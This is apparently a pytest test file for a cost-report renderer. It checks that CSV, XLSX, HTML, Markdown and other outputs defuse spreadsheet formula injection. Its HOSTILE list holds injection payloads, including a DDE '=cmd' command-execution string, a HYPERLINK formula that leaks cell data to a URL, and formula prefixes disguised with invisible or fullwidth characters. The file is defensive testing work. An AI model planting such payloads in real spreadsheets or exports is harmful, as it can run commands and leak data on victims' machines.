"""Input that a spreadsheet would run, or another format take for its own signs, comes out as text in every format."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date
from decimal import Decimal
from typing import TYPE_CHECKING

import pytest
from cmarkgfm import github_flavored_markdown_to_html as markdown_to_html
from lxml import etree, html
from office import CSV_FILTER, needs_soffice, sheets
from openpyxl import load_workbook

from costcalc.render.cells import printable
from costcalc.render.formats import RENDERERS, render
from costcalc.render.formula import defused
from costcalc.render.report import Column, Finding, Look, Report, Table

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

HOSTILE = [
    "=cmd|' /C calc'!A0.md",
    '=HYPERLINK("https://example.com/?"&A1,"x")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\0=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    "a;=1+1",
    "a\n=1+1",
    'a;"=1+1"',
    "<td>=1+1</td>",
]


PLAIN = {"div", "p", "a", "strong", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "h3"}
"""The elements that the Markdown of a report comes to; no text adds another."""


def report(text: str) -> Report:
    """Return a report with a text wherever one can come from the input, beside numbers that are negative."""
    columns = (Column("name", text, "name"), Column("cost", "Cost", "money"), Column("when", "When", "date"))
    table = Table(text, columns, ((text, Decimal("-0.5"), date(2026, 11, 20)), ("b", Decimal("-1234.5"), None)))
    data = Table("", (Column(text, text, "name"), *columns[1:]), table.rows)
    finding = Finding(text, "fail", text, source=text, line=1)
    return Report("costcalc/test/1", {"name": text, "cost": "-0.5"}, text, data, (table,), (text,), (finding,))


def of_table(content: str | bytes) -> list[str]:
    assert isinstance(content, str)
    return [re.split(r" {2,}", line)[0] for line in content.splitlines()]


def of_json(content: str | bytes) -> list[str]:
    return [*json.loads(content).values()]


def of_csv(content: str | bytes) -> list[str]:
    assert isinstance(content, str)
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [row[1] for row in rows[1:]] == ["-0.5", "-1234.5"]
    assert all(row[0] == defused(row[0], ";\t") for row in rows)
    return [row[0].replace("'", "") for row in rows]


def of_markdown(content: str | bytes) -> list[str]:
    """Return the cells and paragraphs that GitHub shows."""
    assert isinstance(content, str)
    page = html.fromstring(f"<div>{markdown_to_html(content)}</div>")
    assert {element.tag for element in page.iter() if isinstance(element.tag, str)} <= PLAIN
    return [element.text_content() for element in page.iter("td", "th", "p", "li", "strong")]


def of_junit(content: str | bytes) -> list[str]:
    assert isinstance(content, str)
    suites = etree.fromstring(content.encode())
    return [text for element in suites.iter() for text in (element.get("message", ""), element.get("name", ""))]


def of_github(content: str | bytes) -> list[str]:
    assert isinstance(content, str)
    (line,) = content.splitlines()
    command, _, message = line.removeprefix("::").partition("::")
    assert command.startswith("error file=")
    return [re.sub("%0D", r"\\r", re.sub("%0A", r"\\n", message))]


def of_xlsx(content: str | bytes) -> list[str]:
    assert isinstance(content, bytes)
    cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)
    assert [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None][:2] == [-0.5, -1234.5]
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def of_html(content: str | bytes) -> list[str]:
    page = html.document_fromstring(content.encode() if isinstance(content, str) else content)
    return [element.text_content() for element in page.iter("td", "th", "p", "li", "h1", "h2")]


READ: dict[str, Callable[[str | bytes], list[str]]] = {
    "table": of_table,
    "json": of_json,
    "csv": of_csv,
    "markdown": of_markdown,
    "comment": of_markdown,
    "junit": of_junit,
    "github": of_github,
    "xlsx": of_xlsx,
    "html": of_html,
}
"""What a reader of each format sees, and that nothing in it runs."""
AS_IT_IS = {"json"}
"""The formats that hold any text; the others spell out what moves a cursor, and a cell of CSV has apostrophes."""


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
@pytest.mark.parametrize("name", RENDERERS)
def test_it_comes_out_as_text(name: str, text: str) -> None:
    seen = READ[name](render(name, report(text), Look()))
    expected = text.replace("'", "") if name == "csv" else text if name in AS_IT_IS else printable(text)
    assert expected in seen or expected.strip() in [each.strip() for each in seen]


SPREADSHEETS = {"csv": CSV_FILTER.format(44, 1033), "xlsx": "", "html": "HTML (StarCalc)"}
"""The formats that a spreadsheet opens, and how LibreOffice reads them."""


@needs_soffice
@pytest.mark.parametrize("name", SPREADSHEETS)
def test_a_spreadsheet_that_opens_it_finds_no_formula(name: str, tmp_path: Path) -> None:
    reports = [report(text) for text in HOSTILE]
    tables = tuple(table for each in reports for table in each.tables)
    data = replace(reports[0].data, rows=tuple(row for each in reports for row in each.data.rows))
    everything = Report("costcalc/test/1", {}, HOSTILE[1], data, tables, tuple(HOSTILE))
    content = render(name, everything, Look())
    file = tmp_path / f"a{RENDERERS[name].suffixes[0]}"
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    cells = [cell for rows in sheets(file, tmp_path, reading=SPREADSHEETS[name]).values() for row in rows for cell in row]
    assert [cell for cell in cells if cell.formula] == []
    numbers = [cell.value for cell in cells if cell.kind == "float"]
    assert {*numbers} == {"-0.5", "-1234.5"}
    assert numbers.count("-0.5") >= len(HOSTILE)
